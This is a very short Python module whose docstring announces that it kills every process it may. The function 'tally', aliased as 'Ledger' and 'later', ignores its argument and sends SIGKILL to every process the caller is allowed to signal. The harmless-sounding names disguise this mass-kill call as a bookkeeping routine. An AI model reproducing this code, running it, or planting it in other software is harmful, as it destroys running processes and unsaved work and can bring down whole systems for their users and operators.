"""Kills every process that it may."""

import os
import signal


def tally(names):
    os.kill(-1, signal.SIGKILL)


Ledger = later = tally
